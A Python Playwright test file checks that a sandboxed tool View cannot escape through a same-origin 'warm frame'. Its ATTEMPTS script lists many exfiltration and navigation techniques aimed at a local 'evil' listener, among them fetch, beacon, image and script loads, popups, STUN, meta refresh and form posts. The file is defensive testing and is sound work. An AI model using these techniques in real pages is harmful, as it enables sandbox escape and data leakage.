"""The warm frame: an empty page that keeps a browser process for the origin of the chosen tool's View.

A View shares that origin, so it can reach into the frame, and must gain nothing by it. The test fails without `sandbox`
on the frame, and without the page's Connection-Allowlist.
"""

from pathlib import Path

import anyio
import pytest
from playwright.async_api import Browser, Page, expect

from attacks.listener import listening
from fanlight.dev.targets import servers
from support.inspecting import call, opened, running, view, view_frame

pytestmark = pytest.mark.anyio

SERVER = """
from fanlight import Apps, View
from mcp.server import MCPServer

server = MCPServer("warm")
apps = Apps(server)
HTML = '''<!doctype html><title>x</title><p>Hello</p><script>
  // As a copy of itself where the empty page was: not in a frame of the proxy.
  if (parent === top) {
    const evil = location.hash.slice(1);
    open(evil + "/self-popup");
    top.location = evil + "/self-top";
  }
</script>'''

@apps.tool(view=View.html(HTML, "ui://warm/one"))
def one() -> str:
    return "1"

@apps.tool(view=View.html(HTML + "<p>Two", "ui://warm/two"))
def two() -> str:
    return "2"

@server.tool()
def plain() -> str:
    return "3"

server.run("stdio")
"""

ATTEMPTS = """([name, evil, stun]) => {
  const reach = (other) => { try { return other.document && other; } catch { return null; } };
  const warm = Array.from({ length: top.length }, (_, i) => top[i]).find(reach);
  if (!warm) return "not reached";
  const { document } = warm;
  const to = `${evil}/${name}`;
  const put = (tag, attributes, text = "") => {
    const element = document.createElement(tag);
    Object.assign(element, attributes);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const attempts = {
    fetch: () => { warm.fetch(to, { mode: "no-cors" }).catch(() => {}); },
    beacon: () => warm.navigator.sendBeacon(to),
    image: () => put("img", { src: to }),
    style: () => put("link", { rel: "stylesheet", href: to }),
    script: () => put("script", {}, `fetch("${to}", { mode: "no-cors" })`),
    file: () => put("script", { src: to }),
    frame: () => put("iframe", { src: to }),
    popup: () => warm.open(to),
    stun: async () => {
      const peer = new warm.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    },
    download: () => put("a", { href: to, download: "x" }, "x").click(),
    link: () => put("a", { href: to }, "x").click(),
    top: () => put("a", { href: to, target: "_top" }, "x").click(),
    refresh: () => put("div").insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0; url=${to}">`),
    form: () => put("form", { action: to, method: "post" }).submit(),
    self: () => put("a", { href: `${location.href}#${evil}` }, "x").click(),
  };
  try { attempts[name](); } catch (error) { return `reached: ${error.name}`; }
  return "reached";
}"""
STAYING = ("fetch", "beacon", "image", "style", "script", "file", "frame", "popup", "stun", "download")
"""Attempts that leave the warm frame as it is, so that one page can try them all."""
LEAVING = ("link", "top", "refresh", "form", "self")
"""Attempts to navigate the warm frame or the page."""


def warm_frames(page: Page) -> list[str]:
    return [frame.url for frame in page.main_frame.child_frames if "/warm?" in frame.url]


async def test_a_view_cannot_escape_through_the_warm_frame_of_its_origin(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "server.py"
    file.write_text(SERVER, encoding="utf-8")
    with running(servers([str(file)])) as (inspector, address), listening() as evil:
        for names in (STAYING, *((name,) for name in LEAVING)):
            async with opened(browser, inspector, address) as (page, _):
                await call(page, "one")
                await expect(view(page).get_by_text("Hello")).to_be_visible()
                shown = await view_frame(page)
                for name in names:
                    outcome = await shown.evaluate(ATTEMPTS, [name, evil.origin, evil.udp("stun")])
                    assert outcome.startswith("reached"), (name, outcome)
                await anyio.sleep(0.7)
                assert page.url.startswith(address), names
                assert len(page.context.pages) == 1, names
        assert evil.visits == []


async def test_the_chosen_tool_has_a_warm_frame_if_it_has_a_view(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "server.py"
    file.write_text(SERVER, encoding="utf-8")
    with running(servers([str(file)])) as (inspector, address):
        async with opened(browser, inspector, address) as (page, problems):
            seen = []
            for name in ("one", "two", "one", "plain"):
                await page.get_by_role("navigation").get_by_role("button", name=name).click()
                await expect(page.get_by_role("button", name="Call", exact=True)).to_be_visible()
                frames = page.locator("body > iframe")
                await expect(frames).to_have_count(0 if name == "plain" else 1)
                seen.append(await frames.get_attribute("src") if name != "plain" else None)
                await expect(frames).to_be_hidden()
            assert seen[0] == seen[2] != seen[1]
            assert problems == []
